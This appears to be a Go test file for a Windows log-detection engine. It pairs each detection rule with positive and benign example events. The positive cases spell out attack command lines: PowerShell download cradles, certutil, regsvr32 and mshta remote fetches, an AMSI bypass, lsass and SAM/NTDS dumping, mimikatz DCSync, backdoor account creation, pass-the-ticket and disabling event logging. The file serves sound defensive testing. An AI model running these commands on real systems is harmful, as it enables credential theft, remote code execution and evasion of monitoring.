package attack

import (
	"strings"
	"testing"

	"github.com/logster/logster/internal/schema"
)

const (
	ps      = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdExe  = `C:\Windows\System32\cmd.exe`
	svchost = `C:\Windows\System32\svchost.exe`
	userPG  = `THESHIRE\pgustavo`
	ntSys   = `NT AUTHORITY\SYSTEM`
	ntNet   = `NT AUTHORITY\NETWORK SERVICE`
	dcom    = `C:\windows\system32\svchost.exe -k DcomLaunch -p`
)

const (
	domainDNS  = "19195a5b-6da0-11d0-afd3-00c04fd930c9" // the domainDNS class
	getChanges = "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2" // DS-Replication-Get-Changes
)

type ruleCase struct {
	name string
	rule string
	ev   *schema.NormalizedEvent
	want bool
}

// ruleCases holds at least one positive and one negative case per rule;
// negatives are taken from the benign background of the recordings.
var ruleCases = []ruleCase{
	// services
	{"7045 service install", "service-installed", svcEv("ws6", "Updater", `%COMSPEC% /C start /b powershell -noP -sta -w 1 -enc SQBmACgA`, "pgustavo", "0x2990d17"), true},
	{"Defender definition driver", "service-installed", ev("ws6", schema.EventServiceInstall, t0, "drv", schema.EventData{NativeID: 7045, Service: &schema.Service{Name: "MpKsl1bb57ead", ImagePath: `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{972CA50B-64EC-45FC-A57E-68F894ED5B68}\MpKsl1bb57ead.sys`, ServiceType: "kernel mode driver"}}), false},
	{"hardware driver", "service-installed", ev("ws6", schema.EventServiceInstall, t0, "drv2", schema.EventData{NativeID: 4697, Service: &schema.Service{Name: "netkvm", ImagePath: `\SystemRoot\System32\drivers\netkvm.sys`, ServiceType: "0x1"}}), false},
	{"not a service event", "service-installed", taskEv("ws6", `\MordorSchtask`, "pgustavo", ""), false},
	{"sc create", "sc-create-config", procEv("ws5", `C:\Windows\System32\sc.exe`, `sc.exe \\ws6 create evil binPath= "cmd /c x"`, userPG, cmdExe, ""), true},
	{"sc config binpath", "sc-create-config", procEv("ws5", `C:\Windows\System32\sc.exe`, `sc  config Fax binPath= "C:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -noexit"`, userPG, cmdExe, ""), true},
	{"sc query (inventory script)", "sc-create-config", procEv("ws5", `C:\Windows\System32\sc.exe`, `sc  query eaphost  `, ntSys, cmdExe, ""), false},
	{"sc remote start", "sc-remote-control", procEv("ws5", `C:\windows\system32\sc.exe`, `"C:\windows\system32\sc.exe" \\WORKSTATION6 start IKEEXT`, userPG, ps, ""), true},
	{"sc remote query", "sc-remote-control", procEv("ws5", `C:\windows\system32\sc.exe`, `sc.exe  \\MORDORDC.theshire.local query IKEEXT`, userPG, cmdExe, ""), false},
	{"sc local start", "sc-remote-control", procEv("ws5", `C:\windows\system32\sc.exe`, `sc  start Fax`, userPG, cmdExe, ""), false},
	{"services starts cmd", "services-child-shell", procEv("ws6", cmdExe, `C:\windows\system32\cmd.exe /C start /b powershell -noP -enc SQBm`, ntSys, `C:\Windows\System32\services.exe`, ""), true},
	{"services starts svchost", "services-child-shell", procEv("ws6", svchost, `C:\windows\system32\svchost.exe -k netsvcs -p -s BITS`, ntSys, `C:\Windows\System32\services.exe`, ""), false},
	{"PSEXESVC service", "psexec-service", svcEv("ws6", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "wardog", ""), true},
	{"PSEXESVC pipe", "psexec-service", ev("ws6", schema.EventPipeCreate, t0, "pipe", schema.EventData{File: &schema.File{Path: `\PSEXESVC-WS5-1234-stdin`}}), true},
	{"PowerShell host pipe", "psexec-service", ev("ws6", schema.EventPipeCreate, t0, "pipe2", schema.EventData{File: &schema.File{Path: `\PSHost.132450922166201433.4312.DefaultAppDomain.powershell`}}), false},
	{"psexec to host", "psexec-client", procEv("ws5", `C:\Tools\PsExec64.exe`, `PsExec64.exe \\ws6 -s cmd.exe`, userPG, cmdExe, ""), true},
	{"psexec local", "psexec-client", procEv("ws5", `C:\Tools\PsExec.exe`, `PsExec.exe  -accepteula -s reg save HKLM\security\policy\secrets C:\x`, userPG, cmdExe, ""), false},
	// directory and LSA objects (Security 4662), as in the OTRF recordings
	{"DCSync Get-Changes by a user", "dcsync-replication-rights", objEv("mordordc", "DS", domainDNS, "3933c65d-ac7f-4c79-b5b7-ad0fb941333c", "pgustavo", getChanges, domainDNS), true},
	{"DCSync Get-Changes-All by a user", "dcsync-replication-rights", objEv("mordordc", "DS", domainDNS, "3933c65d-ac7f-4c79-b5b7-ad0fb941333c", "pgustavo", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"), true},
	{"replication by the DC itself", "dcsync-replication-rights", objEv("mordordc", "DS", domainDNS, "3933c65d-ac7f-4c79-b5b7-ad0fb941333c", "MORDORDC$", getChanges, domainDNS), false},
	{"ntSecurityDescriptor read (PowerView)", "dcsync-replication-rights", objEv("mordordc", "DS", domainDNS, "3933c65d-ac7f-4c79-b5b7-ad0fb941333c", "pgustavo", domainDNS), false},
	{"replication GUID on an LSA object", "dcsync-replication-rights", objEv("mordordc", "LSA", "SecretObject", "x", "pgustavo", getChanges), false},
	{"DPAPI backup key read by a user", "dpapi-backupkey-read", objEv("mordordc", "LSA", "SecretObject", `Policy\Secrets\G$BCKUPKEY_PREFERRED`, "pgustavo"), true},
	{"LSA secret read by LOCAL SERVICE", "dpapi-backupkey-read", objEv("ws5", "LSA", "SecretObject", `Policy\Secrets\G$BCKUPKEY_PREFERRED`, "LOCAL SERVICE"), false},
	{"other LSA secret by a user", "dpapi-backupkey-read", objEv("mordordc", "LSA", "SecretObject", `Policy\Secrets\DefaultPassword`, "pgustavo"), false},
	// Kerberos service tickets (Security 4769), as in purplesharp_ad_playbook_I
	{"RC4 ticket for a user-run service", "kerberoast-rc4-ticket", tgsEv("sysmonsvc", "pgustavo@THESHIRE.LOCAL", "0x17", "0x0"), true},
	{"AES ticket for a user-run service", "kerberoast-rc4-ticket", tgsEv("sysmonsvc", "pgustavo@THESHIRE.LOCAL", "0x12", "0x0"), false},
	{"RC4 ticket for a computer account", "kerberoast-rc4-ticket", tgsEv("WORKSTATION6$", "pgustavo@THESHIRE.LOCAL", "0x17", "0x0"), false},
	{"RC4 ticket requested by a computer", "kerberoast-rc4-ticket", tgsEv("sysmonsvc", "WORKSTATION5$@THESHIRE.LOCAL", "0x17", "0x0"), false},
	{"failed request", "kerberoast-rc4-ticket", tgsEv("sysmonsvc", "pgustavo@THESHIRE.LOCAL", "", "0x1b"), false},
	{"krbtgt", "kerberoast-rc4-ticket", tgsEv("krbtgt", "pgustavo@THESHIRE.LOCAL", "0x17", "0x0"), false},
	// SMB
	{"C$ by user", "admin-share-access", shareEv("ws6", "C$", `Windows\System32\wlbsctrl.dll`, "pgustavo", "172.18.39.5", "0x2"), true},
	{"ADMIN$ by user", "admin-share-access", shareEv("ws6", "ADMIN$", "", "pgustavo", "172.18.39.5", ""), true},
	{"IPC$ by machine account", "admin-share-access", shareEv("dc", "IPC$", "", "WORKSTATION5$", "172.18.39.5", ""), false},
	{"SYSVOL gpt.ini by DC", "admin-share-access", shareEv("dc", "SYSVOL", `theshire.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\gpt.ini`, "MORDORDC$", "fe80::1", ""), false},
	{"C$ by machine account", "admin-share-access", shareEv("ws6", "C$", "", "WORKSTATION5$", "172.18.39.5", ""), false},
	{"svcctl by user", "ipc-svcctl", shareEv("ws6", "IPC$", "svcctl", "pgustavo", "172.18.39.5", "0x3"), true},
	{"samr by WEC machine", "ipc-svcctl", shareEv("dc", "IPC$", "samr", "WEC$", "172.18.38.6", "0x3"), false},
	{"srvsvc by user", "ipc-svcctl", shareEv("ws6", "IPC$", "srvsvc", "pgustavo", "172.18.39.5", "0x3"), false},
	{"atsvc by user", "ipc-atsvc", shareEv("ws6", "IPC$", "atsvc", "pgustavo", "172.18.39.5", "0x3"), true},
	{"lsarpc by machine", "ipc-atsvc", shareEv("dc", "IPC$", "lsarpc", "WORKSTATION5$", "172.18.39.5", "0x3"), false},
	{"dll written via C$", "admin-share-tool-write", shareEv("ws6", "C$", `Windows\System32\wbem\wbemcomn.dll`, "pgustavo", "172.18.39.5", "0x2"), true},
	{"xml written via C$", "admin-share-tool-write", shareEv("ws6", "C$", `Windows\Tasks\pshell.xml`, "pgustavo", "172.18.39.5", "0x2"), true},
	{"dll read via C$", "admin-share-tool-write", shareEv("ws6", "C$", `Windows\System32\wlbsctrl.dll`, "pgustavo", "172.18.39.5", "0x80"), false},
	{"directory listing via C$", "admin-share-tool-write", shareEv("ws6", "C$", `Windows\System32`, "pgustavo", "172.18.39.5", "0x2"), false},
	{"net use admin$", "admin-share-command", procEv("ws5", `C:\Windows\System32\net.exe`, `net use \\ws6\ADMIN$ /user:theshire\pgustavo`, userPG, cmdExe, ""), true},
	{"copy to C$ in script", "admin-share-command", scriptEv("ws5", `Copy-Item .\a.exe \\172.18.39.6\C$\Windows\Temp\a.exe`), true},
	{"net use file share", "admin-share-command", procEv("ws5", `C:\Windows\System32\net.exe`, `net use \\fileserver\projects`, userPG, cmdExe, ""), false},
	// WMI
	{"wmiprvse starts net.exe", "wmiprvse-child", procEv("ws6", `C:\Windows\System32\net.exe`, `net user /add backdoor paw0rd1`, userPG, `C:\windows\system32\wbem\wmiprvse.exe`, `wmiprvse.exe -secured -Embedding`), true},
	{"DcomLaunch starts wmiprvse", "wmiprvse-child", procEv("ws6", `C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\windows\system32\wbem\wmiprvse.exe -secured -Embedding`, ntNet, svchost, dcom), false},
	{"wmic /node", "wmic-remote", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `"C:\windows\System32\Wbem\WMIC.exe" /node:WORKSTATION6 process call create "net user /add backdoor paw0rd1"`, userPG, ps, ""), true},
	{"wmic localhost", "wmic-remote", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `wmic /node:localhost os get caption`, userPG, cmdExe, ""), false},
	{"wmic process call create", "wmi-process-create", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `wmic process call create "calc.exe"`, userPG, cmdExe, ""), true},
	{"Invoke-WmiMethod Win32_Process", "wmi-process-create", scriptEv("ws5", `Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList notepad.exe -ComputerName ws6`), true},
	{"wmic os get", "wmi-process-create", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `wmic  /node:WORKSTATION6 os get`, userPG, cmdExe, ""), false},
	{"sysmon 19 filter", "wmi-event-subscription", ev("ws6", schema.EventWMISubscription, t0, "w19", schema.EventData{NativeID: 19, WMI: &schema.WMI{Operation: "Created", Filter: "WSUS_QQTJ7"}}), true},
	{"5861 binding", "wmi-consumer-bound", ev("ws6", schema.EventWMIActivity, t0, "w5861", schema.EventData{NativeID: 5861, WMI: &schema.WMI{Namespace: "//./root/subscription"}}), true},
	{"5857 provider load", "wmi-consumer-bound", ev("ws6", schema.EventWMIActivity, t0, "w5857", schema.EventData{NativeID: 5857, WMI: &schema.WMI{Operation: "CIMWin32 provider started"}}), false},
	{"wmiprvse is not scrcons", "wmi-event-subscription", procEv("ws6", `C:\Windows\System32\wbem\WmiPrvSE.exe`, `wmiprvse.exe -Embedding`, ntNet, svchost, dcom), false},
	{"scrcons start", "wmi-event-subscription", procEv("ws6", `C:\windows\system32\wbem\scrcons.exe`, `C:\windows\system32\wbem\scrcons.exe -Embedding`, ntSys, svchost, dcom), true},
	{"wmic xsl", "wmic-xsl", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `wmic /node:ws6 os get /format:"https://example.org/x.xsl"`, userPG, cmdExe, ""), true},
	{"wmic list format", "wmic-xsl", procEv("ws5", `C:\windows\System32\Wbem\WMIC.exe`, `wmic os get /format:list`, userPG, cmdExe, ""), false},
	// WinRM
	{"wsmprovhost start", "winrm-host-process", procEv("ws6", `C:\windows\system32\wsmprovhost.exe`, `C:\windows\system32\wsmprovhost.exe -Embedding`, userPG, svchost, dcom), true},
	{"wsmprovhost child", "winrm-host-process", procEv("ws6", ps, `powershell.exe -noP -sta -w 1 -enc SQBmACgA`, userPG, `C:\windows\system32\wsmprovhost.exe`, ""), true},
	{"RuntimeBroker from DcomLaunch", "winrm-host-process", procEv("ws6", `C:\Windows\System32\RuntimeBroker.exe`, `RuntimeBroker.exe -Embedding`, userPG, svchost, dcom), false},
	{"powershell to 5985", "winrm-client-connection", netEv("ws5", "outbound", "172.18.39.5", 50000, "172.18.39.6", 5985, ps, userPG), true},
	{"WEF svchost to collector", "winrm-client-connection", netEv("acct001", "outbound", "172.18.39.100", 50000, "172.18.39.102", 5985, svchost, ntNet), false},
	{"loopback 5985", "winrm-client-connection", netEv("ws6", "outbound", "::1", 50000, "0:0:0:0:0:0:0:1", 5985, ps, userPG), false},
	{"Invoke-Command -ComputerName", "powershell-remoting-command", scriptEv("ws5", `Invoke-Command -ComputerName WORKSTATION6 -ScriptBlock { whoami }`), true},
	{"winrs", "powershell-remoting-command", procEv("ws5", `C:\Windows\System32\winrs.exe`, `winrs -r:http://ws6:5985 cmd /c whoami`, userPG, cmdExe, ""), true},
	{"local Invoke-Command", "powershell-remoting-command", scriptEv("ws5", `Invoke-Command -ScriptBlock { Get-Process }`), false},
	// DCOM
	{"excel automation via DcomLaunch", "dcom-application-launch", procEv("ws6", `C:\Program Files (x86)\Microsoft Office\Root\Office16\EXCEL.EXE`, `"C:\Program Files (x86)\Microsoft Office\Root\Office16\EXCEL.EXE" /automation -Embedding`, userPG, svchost, dcom), true},
	{"mmc via DcomLaunch", "dcom-application-launch", procEv("ws6", `C:\Windows\System32\mmc.exe`, `C:\Windows\system32\mmc.exe -Embedding`, userPG, svchost, dcom), true},
	{"backgroundTaskHost via DcomLaunch", "dcom-application-launch", procEv("ws5", `C:\windows\system32\backgroundTaskHost.exe`, `"C:\windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca`, userPG, svchost, dcom), false},
	{"excel opened by user", "dcom-application-launch", procEv("ws6", `C:\Program Files\Microsoft Office\EXCEL.EXE`, `"EXCEL.EXE" "C:\Users\pgustavo\report.xlsx"`, userPG, `C:\Windows\explorer.exe`, ""), false},
	{"mmc starts cmd", "mmc-child-shell", procEv("ws6", cmdExe, `cmd.exe /c calc`, userPG, `C:\Windows\System32\mmc.exe`, ""), true},
	{"mmc starts nothing unusual", "mmc-child-shell", procEv("ws6", `C:\Windows\System32\conhost.exe`, `conhost.exe`, userPG, `C:\Windows\System32\mmc.exe`, ""), false},
	{"MMC20 activation script", "dcom-script", scriptEv("ws5", `$c=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","ws6")); $c.Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c calc","7")`), true},
	{"COM use of Excel locally without activation", "dcom-script", scriptEv("ws5", `$xl = New-Object -ComObject Excel.Application`), false},
	// RDP
	{"4624 type 10", "rdp-logon", logonEv("ws6", 10, "pgustavo", "THESHIRE", "172.18.39.5", "0x1", "Negotiate"), true},
	{"4624 type 3 machine", "rdp-logon", logonEv("dc", 3, "MORDORDC$", "THESHIRE", "172.18.38.5", "0x2", "Kerberos"), false},
	{"4624 type 10 DWM", "rdp-logon", logonEv("ws6", 10, "DWM-2", "Window Manager", "", "0x3", "Advapi"), false},
	// Credential access
	{"mimikatz 0x1010", "lsass-memory-access", accessEv("ws5", ps, "0x1010"), true},
	{"comsvcs 0x1fffff", "lsass-memory-access", accessEv("ws5", `C:\Windows\System32\rundll32.exe`, "0x1fffff"), true},
	{"svchost 0x1000", "lsass-memory-access", accessEv("ws5", svchost, "0x1000"), false},
	{"svchost 0x3000", "lsass-memory-access", accessEv("ws5", svchost, "0x3000"), false},
	{"VBoxService 0x1400", "lsass-memory-access", accessEv("ws5", `C:\Windows\System32\VBoxService.exe`, "0x1400"), false},
	{"wmiprvse 0x1410", "lsass-memory-access", accessEv("ws5", `C:\Windows\System32\wbem\WmiPrvSE.exe`, "0x1410"), false},
	{"csrss full access", "lsass-memory-access", accessEv("ws5", `C:\Windows\System32\csrss.exe`, "0x1fffff"), false},
	{"comsvcs MiniDump", "lsass-dump-tool", procEv("ws5", `C:\Windows\System32\rundll32.exe`, `"C:\Windows\System32\rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump 756 C:\Users\wardog\AppData\Local\Temp\lsass-comsvcs.dmp full`, userPG, ps, ""), true},
	{"lsass dump file", "lsass-dump-tool", ev("ws5", schema.EventFileCreate, t0, "f1", schema.EventData{File: &schema.File{Path: `C:\Users\wardog\AppData\Local\Temp\lsass.DMP`}}), true},
	{"other dump file", "lsass-dump-tool", ev("ws5", schema.EventFileCreate, t0, "f2", schema.EventData{File: &schema.File{Path: `C:\Windows\Minidump\012021-01.dmp`}}), false},
	{"Invoke-Mimikatz", "mimikatz-loaded", scriptEv("ws5", `function Invoke-Mimikatz { [CmdletBinding(DefaultParameterSetName="DumpCreds")] }`), true},
	{"ordinary script", "mimikatz-loaded", scriptEv("ws5", `Get-ChildItem C:\Users`), false},
	{"dcsync", "dcsync", scriptEv("ws5", `Invoke-Mimikatz -Command '"lsadump::dcsync /user:krbtgt"'`), true},
	{"lsadump sam is not dcsync", "dcsync", scriptEv("ws5", `Invoke-Mimikatz -Command '"lsadump::sam"'`), false},
	{"reg save sam", "sam-hive-dump", procEv("ws5", `C:\windows\system32\reg.exe`, `"C:\windows\system32\reg.exe" save HKLM\sam sam`, userPG, ps, ""), true},
	{"reg save system", "sam-hive-dump", procEv("ws5", `C:\windows\system32\reg.exe`, `reg  save HKLM\SYSTEM C:\Windows\Temp\SYSTEM_HIVE`, userPG, cmdExe, ""), true},
	{"reg export (inventory)", "sam-hive-dump", procEv("ws5", `C:\windows\system32\reg.exe`, `reg  export "HKLM\SOFTWARE\Microsoft\Wlansvc"  Reg\HKLMWlanSvc.reg.txt /y`, ntSys, cmdExe, ""), false},
	{"reg save software", "sam-hive-dump", procEv("ws5", `C:\windows\system32\reg.exe`, `reg save HKLM\SOFTWARE sw.hiv`, userPG, cmdExe, ""), false},
	{"reg save security", "lsa-secrets-dump", procEv("ws5", `C:\Windows\System32\PsExec.exe`, `PsExec.exe  -accepteula -s reg save HKLM\security\policy\secrets C:\Users\wardog\AppData\Local\Temp\secrets`, userPG, cmdExe, ""), true},
	{"reg save sam is not LSA", "lsa-secrets-dump", procEv("ws5", `C:\windows\system32\reg.exe`, `reg save HKLM\sam sam`, userPG, ps, ""), false},
	{"ntdsutil ifm", "ntds-dump", procEv("dc", `C:\Windows\System32\ntdsutil.exe`, `ntdsutil  "ac i ntds" "ifm" "create full C:\Windows\Temp\ntds_T1003" q q`, userPG, cmdExe, ""), true},
	{"vssadmin create shadow", "ntds-dump", procEv("dc", `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe  create shadow /for=C:`, userPG, cmdExe, ""), true},
	{"vssadmin list shadows", "ntds-dump", procEv("dc", `C:\Windows\System32\vssadmin.exe`, `vssadmin list shadows`, userPG, cmdExe, ""), false},
	{"Invoke-Kerberoast", "kerberoasting", scriptEv("ws5", `Invoke-Kerberoast -OutputFormat Hashcat`), true},
	{"Get-ADUser", "kerberoasting", scriptEv("ws5", `Get-ADUser -Filter * -Properties servicePrincipalName`), false},
	{"type 9 seclogo", "pass-the-hash-logon", logonEv("ws5", 9, "pgustavo", "THESHIRE", "::1", "0x5", "seclogo"), true},
	{"type 2 interactive", "pass-the-hash-logon", logonEv("ws5", 2, "pgustavo", "THESHIRE", "127.0.0.1", "0x6", "User32"), false},
	{"Rubeus ptt", "pass-the-ticket", procEv("ws5", `C:\Users\Public\Rubeus.exe`, `Rubeus.exe asktgt /user:pgustavo /rc4:abc /ptt`, userPG, cmdExe, ""), true},
	{"Rubeus asktgt without ptt", "pass-the-ticket", procEv("ws5", `C:\Users\Public\Rubeus.exe`, `Rubeus.exe asktgt /user:pgustavo /rc4:abc /createnetonly:C:\Windows\System32\cmd.exe`, userPG, cmdExe, ""), false},
	// Tasks
	{"4698 by user", "scheduled-task-created", taskEv("ws6", `\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager`, "pgustavo", "0x1"), true},
	{"4698 OneDrive updater", "scheduled-task-created", taskEv("ws6", `\OneDrive Standalone Update Task-S-1-5-21-4228717743-1032521047-1810997296-1106`, "sbeavers", ""), false},
	{"4698 by machine account", "scheduled-task-created", taskEv("ws6", `\Microsoft\Windows\UpdateOrchestrator\AC Power Install`, "WORKSTATION6$", ""), false},
	{"schtasks /create", "schtasks-create", procEv("ws5", `C:\Windows\System32\schtasks.exe`, `schtasks  /create /F /tn \Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager /tr "cmd.exe /C notepad" /s WORKSTATION6`, userPG, cmdExe, ""), true},
	{"schtasks /query", "schtasks-create", procEv("ws5", `C:\Windows\System32\schtasks.exe`, `schtasks /query /fo csv`, userPG, cmdExe, ""), false},
	// PowerShell
	{"-enc stager", "powershell-encoded-command", procEv("ws6", ps, `C:\Windows\System32\WindowsPowershell\v1.0\powershell  -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAYgBsAEUA`, ntSys, cmdExe, ""), true},
	{"cmd wrapping -enc", "powershell-encoded-command", procEv("ws6", cmdExe, `C:\windows\system32\cmd.exe /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAHIAUwBpAE8A`, ntSys, `C:\Windows\System32\services.exe`, ""), true},
	{"-ExecutionPolicy Bypass -File", "powershell-encoded-command", procEv("ws6", ps, `powershell.exe -ep bypass -File C:\scripts\inventory.ps1`, userPG, cmdExe, ""), false},
	{"hidden noprofile", "powershell-hidden-noprofile", procEv("hr001", ps, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -Sta -Nop -Window Hidden -Command "sv o (New-Object IO.MemoryStream)"`, userPG, `C:\Windows\system32\wsmprovhost.exe`, ""), true},
	{"interactive powershell", "powershell-hidden-noprofile", procEv("ws6", ps, `"C:\windows\System32\WindowsPowerShell\v1.0\powershell.exe"`, userPG, `C:\Windows\explorer.exe`, ""), false},
	{"base64 into IEX", "powershell-suspicious-script", scriptEv("ws5", `IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("SQBm")))`), true},
	{"AMSI bypass", "powershell-suspicious-script", scriptEv("ws5", `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`), true},
	{"module StrictMode", "powershell-suspicious-script", scriptEv("ws5", ` #requires -version 3.0  try { Microsoft.PowerShell.Core\Set-StrictMode -Off } catch { }`), false},
	{"CIM aliases", "powershell-suspicious-script", scriptEv("ws5", `Set-Alias -Name gcim -Value Get-CimInstance -Option ReadOnly, AllScope -ErrorAction SilentlyContinue`), false},
	{"DownloadString cradle", "download-cradle", procEv("ws5", ps, `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/a.ps1')"`, userPG, cmdExe, ""), true},
	{"iwr -OutFile", "download-cradle", scriptEv("ws5", `Invoke-WebRequest -Uri https://example.org/t.exe -OutFile C:\Users\Public\t.exe`), true},
	{"Invoke-WebRequest to API without exec", "download-cradle", scriptEv("ws5", `Invoke-WebRequest -Uri https://status.example.org/health`), false},
	// Ingress and LOLBins
	{"certutil urlcache", "certutil-download", procEv("ws5", `C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f http://10.10.10.5/a.exe a.exe`, userPG, cmdExe, ""), true},
	{"certutil store listing", "certutil-download", procEv("ws5", `C:\Windows\System32\certutil.exe`, `certutil  -v -store -silent My `, ntSys, cmdExe, ""), false},
	{"bitsadmin transfer", "bits-transfer", procEv("ws5", `C:\Windows\System32\bitsadmin.exe`, `bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/x/T1197.md C:\t.md`, userPG, cmdExe, ""), true},
	{"bitsadmin list", "bits-transfer", procEv("ws5", `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /list /allusers`, userPG, cmdExe, ""), false},
	{"mshta javascript", "mshta-execution", procEv("ws5", `C:\Windows\System32\mshta.exe`, `mshta.exe  javascript:a=(GetObject('script:https://example.org/mshta.sct')).Exec();close();`, userPG, cmdExe, ""), true},
	{"mshta without argument", "mshta-execution", procEv("ws5", `C:\Windows\System32\mshta.exe`, `mshta.exe`, userPG, cmdExe, ""), false},
	{"regsvr32 squiblydoo", "regsvr32-scriptlet", procEv("ws5", `C:\windows\system32\regsvr32.exe`, `"C:\windows\system32\regsvr32.exe" /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll`, userPG, cmdExe, ""), true},
	{"regsvr32 dll registration", "regsvr32-scriptlet", procEv("ws5", `C:\windows\system32\regsvr32.exe`, `regsvr32.exe /s "C:\Program Files\Vendor\vendor.dll"`, ntSys, `C:\Windows\System32\msiexec.exe`, ""), false},
	{"rundll32 javascript", "rundll32-script", procEv("ws5", `C:\Windows\System32\rundll32.exe`, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, userPG, cmdExe, ""), true},
	{"rundll32 shell32 embedding", "rundll32-script", procEv("ws5", `C:\Windows\System32\rundll32.exe`, `C:\windows\System32\rundll32.exe C:\windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`, userPG, svchost, dcom), false},
	{"msbuild xml from wmiprvse", "msbuild-inline-task", procEv("ws6", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe  C:\Windows\Tasks\pshell.xml`, userPG, cmdExe, ""), true},
	{"msbuild solution build", "msbuild-inline-task", procEv("dev1", `C:\Program Files\Microsoft Visual Studio\MSBuild.exe`, `MSBuild.exe C:\src\app\app.sln /t:Build`, userPG, `C:\Program Files\Microsoft Visual Studio\devenv.exe`, ""), false},
	{"installutil /u", "installutil-uninstall", procEv("ws5", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe`, `InstallUtil.exe  /logfile= /LogToConsole=false /u c:\ProgramData\GruntHTTP.dll`, userPG, cmdExe, ""), true},
	{"installutil install", "installutil-uninstall", procEv("ws5", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe`, `InstallUtil.exe C:\svc\MyService.exe`, userPG, cmdExe, ""), false},
	{"cmstp silent inf", "cmstp-inf", procEv("ws5", `C:\windows\system32\cmstp.exe`, `"C:\windows\system32\cmstp.exe" /s C:\ProgramData\T1218.003_uacbypass.inf /au`, userPG, ps, ""), true},
	{"cmstp help", "cmstp-inf", procEv("ws5", `C:\windows\system32\cmstp.exe`, `cmstp.exe /?`, userPG, cmdExe, ""), false},
	{"powershell injects notepad", "remote-thread", ev("ws5", schema.EventCreateRemoteThread, t0, "crt1", schema.EventData{Process: &schema.Process{Image: ps}, Target: &schema.Process{Image: `C:\Windows\System32\notepad.exe`}}), true},
	{"csrss remote thread", "remote-thread", ev("ws5", schema.EventCreateRemoteThread, t0, "crt2", schema.EventData{Process: &schema.Process{Image: `C:\Windows\System32\csrss.exe`}, Target: &schema.Process{Image: svchost}}), false},
	// Registry
	{"Run key", "registry-run-key", regEv("ws5", schema.EventRegistrySet, `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, ps), true},
	{"StartupApproved by taskmgr", "registry-run-key", regEv("ws5", schema.EventRegistryCreate, `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\StartupApproved\Run`, `C:\Windows\System32\Taskmgr.exe`), false},
	{"OneDrive run key", "registry-run-key", regEv("ws5", schema.EventRegistrySet, `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`, `C:\Users\x\AppData\Local\Microsoft\OneDrive\OneDrive.exe`), false},
	{"AppCompat RunResults", "registry-run-key", regEv("dc", schema.EventRegistryCreate, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Appraiser\RunResults`, `C:\Windows\System32\CompatTelRunner.exe`), false},
	{"UserInitMprLogonScript", "registry-logon-script", regEv("ws5", schema.EventRegistrySet, `HKU\S-1-5-21-1\Environment\UserInitMprLogonScript`, `C:\Windows\System32\reg.exe`), true},
	{"Environment TEMP", "registry-logon-script", regEv("ws5", schema.EventRegistrySet, `HKU\S-1-5-21-1\Environment\TEMP`, `C:\Windows\explorer.exe`), false},
	{"IFEO debugger", "registry-ifeo-debugger", regEv("ws5", schema.EventRegistrySet, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\reg.exe`), true},
	{"IFEO mitigation", "registry-ifeo-debugger", regEv("ws5", schema.EventRegistrySet, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\msedge.exe\MitigationOptions`, `C:\Windows\System32\svchost.exe`), false},
	{"EventLog Start via reg add", "registry-disable-logging", procEv("ws5", `C:\Windows\System32\reg.exe`, `REG  ADD HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\EventLog /t REG_DWORD /v Start /d 4`, userPG, cmdExe, ""), true},
	{"MiniNt created", "registry-disable-logging", regEv("ws5", schema.EventRegistryCreate, `HKLM\System\CurrentControlSet\Control\MiniNt`, `C:\Users\Public\payload.exe`), true},
	{"Autologger Start by svchost", "registry-disable-logging", regEv("ws5", schema.EventRegistrySet, `HKLM\System\CurrentControlSet\Control\WMI\Autologger\EventLog-Application\Start`, svchost), false},
